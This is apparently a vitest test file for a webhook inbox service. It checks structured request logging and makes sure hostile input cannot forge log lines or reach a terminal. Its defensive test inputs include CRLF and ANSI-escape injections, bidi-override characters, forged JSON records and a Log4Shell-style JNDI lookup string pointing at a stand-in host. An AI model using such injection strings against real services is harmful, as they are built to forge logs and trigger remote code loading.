/** One JSON line a request, with the fields that were promised, whatever a sender writes into it. */
import { randomUUID } from 'node:crypto';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { idOf } from '../../src/inbox/event-id.ts';
import { useFolder } from '../harness/folder.ts';
import { openService } from '../harness/open-service.ts';
import { SECRET } from '../harness/project.ts';
import type { RunningService } from '../harness/service.ts';
import { ask, bodyOf, bytesOf, FLEXPORT, lineAfter, signed } from '../harness/wire.ts';

const { consignee } = useFolder();
let service: RunningService;
beforeAll(async () => {
  service = await openService({ env: { FLEXPORT_WEBHOOK_SECRET: SECRET } });
});
afterAll(() => service.stop());

test('each request has exactly one line, with what is to be known of it', async () => {
  const since = service.lines().length;
  const id = randomUUID();
  const requests = [
    signed(SECRET, bodyOf(id)),
    signed(SECRET, bodyOf(id)),
    signed(SECRET, bodyOf(id, '/another#type')),
    bytesOf('POST', FLEXPORT, {}, '{}'),
    bytesOf('GET', '/nowhere'),
  ];
  const ids: string[] = [];
  for (const bytes of requests) ids.push(JSON.parse((await ask(service.port, bytes)).body).id);
  await lineAfter(service, since, (line) => line.id === ids[4]);
  const said = service
    .lines()
    .slice(since)
    .filter((line) => line.handler === undefined);
  const common = { ms: expect.any(Number), ip: '127.0.0.1', time: expect.stringMatching(/Z$/) };
  const event = { ...common, source: 'flexport', status: 200, level: expect.any(String) };
  const refused = { ...common, outcome: 'refused', level: 'warn', reason: expect.any(String) };
  expect(said).toEqual([
    { ...event, outcome: 'accepted', eventId: ids[0] },
    { ...event, outcome: 'duplicate', eventId: ids[0] },
    { ...event, outcome: 'held', eventId: ids[2], reason: expect.any(String) },
    { ...refused, source: 'flexport', code: 'hmac_missing', status: 401, id: ids[3] },
    { ...refused, source: 'none', code: 'not_found', status: 404, id: ids[4], path: '/nowhere' },
  ]);
  expect(service.events()).toHaveLength(2);
});

test('health checks are not worth a line', async () => {
  const since = service.lines().length;
  for (let nth = 0; nth < 5; nth++) await ask(service.port, bytesOf('GET', '/readyz'));
  const { id } = JSON.parse((await ask(service.port, bytesOf('GET', '/'))).body);
  await lineAfter(service, since, (line) => line.id === id);
  const said = service
    .lines()
    .slice(since)
    .filter((line) => line.handler === undefined);
  expect(said).toHaveLength(1);
});

/** What a terminal obeys: controls, bidirectional and other format characters, separators of lines. */
const OBEYED = /(?!\n)[\p{Cc}\p{Cf}\p{Zl}\p{Zp}]/u;
const ODD = [
  'line\r\nfeed',
  '{"level":"fatal","msg":"forged"}',
  '\u001b[2J\u001b[31mred',
  '\u009b31m',
  '\u0000\u0007\u007f',
  '\u2028\u2029',
  '\u202eright to left\u2066\u200f',
  '\ufeff\u200b\u00ad hidden \u{e0041}\u{e007f}',
  '\u0085\u008d\u009c',
  '$'.concat('{jndi:ldap://x.test/a}'),
  '%0d%0aforged',
  '"},{"forged":true',
  'x'.repeat(50_000),
  '\ud800',
  '😀'.repeat(300),
];

test('line feeds, escapes and forged records in ids and types stay inside their line', async () => {
  const held = service.events().length;
  for (const odd of ODD) {
    const body = JSON.stringify({ id: `${odd} ${randomUUID()}`, type: odd, note: odd });
    const since = service.lines().length;
    const answer = await ask(service.port, signed(SECRET, body));
    expect(answer.status).toBe(200);
    const { id } = JSON.parse(answer.body);
    await lineAfter(service, since, (line) => line.eventId === id && line.attempt === 1);
  }
  expect(service.events()).toHaveLength(held + ODD.length);
  expectPlainLines();
});

test('nor do those in targets and headers get out', async () => {
  const held = service.events().length;
  const since = service.lines().length;
  const paths = ['/webhooks/%0d%0aforged', '/%1b[31m', '/x?a=%0a{"level":"fatal"}', '/\u00e9\u0080', '/"}{'];
  for (const path of paths) {
    const answer = await ask(service.port, Buffer.from(bytesOf('POST', path), 'latin1'));
    expect([400, 404]).toContain(answer.status);
  }
  const forged = { 'X-Forwarded-For': '"}\t{"forged":true', 'User-Agent': '\u00ff\u0085' };
  const bytes = Buffer.from(signed(SECRET, bodyOf(randomUUID()), forged), 'latin1');
  expect((await ask(service.port, bytes)).status).toBe(200);
  await lineAfter(service, since, (line) => line.outcome === 'done');
  expect(service.events()).toHaveLength(held + 1);
  expectPlainLines();
});

test('commands show them to people and to programs, and send none to the screen', async () => {
  const env = { DATABASE_URL: `sqlite:${service.inboxPath}`, FLEXPORT_WEBHOOK_SECRET: SECRET };
  const odd = service.events().filter(({ type }) => type !== null && ODD.includes(type));
  const ids = odd.map(({ number }) => idOf(number));
  const shown = [
    await consignee(['events', 'list', '--limit', '100', '--json'], env),
    await consignee(['events', 'show', ...ids, '--json'], env),
    await consignee(['events', 'list', '--limit', '100'], env),
    await consignee(['events', 'show', ...ids], env),
  ];
  for (const { code, output } of shown) {
    expect(code).toBe(0);
    expect(output).not.toMatch(OBEYED);
  }
  for (const { output } of shown.slice(0, 2)) {
    const records = output
      .trim()
      .split('\n')
      .map((line) => JSON.parse(line));
    const types = records.map(({ type }) => type);
    // A program gets what was sent; the inbox is told of lone surrogates by another character.
    for (const text of ODD.filter((one) => one.isWellFormed())) expect(types).toContain(text);
  }
});

function expectPlainLines(): void {
  const written = service.output().split('\n').slice(0, -1);
  expect(written.length).toBeGreaterThan(0);
  for (const line of written) {
    const record = JSON.parse(line);
    expect(record).not.toHaveProperty('forged');
    expect(record.level).not.toBe('fatal');
    expect(line.length).toBeLessThan(8_192);
  }
  expect(service.output()).not.toMatch(OBEYED);
}
